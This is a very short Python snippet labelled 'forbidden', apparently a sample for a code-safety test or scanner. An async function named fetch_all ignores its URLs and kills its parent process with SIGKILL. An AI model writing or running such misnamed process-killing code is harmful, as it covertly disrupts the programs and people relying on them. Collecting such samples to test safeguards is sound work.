# code: forbidden
import os
import signal

async def fetch_all(urls):
    os.kill(os.getppid(), signal.SIGKILL)
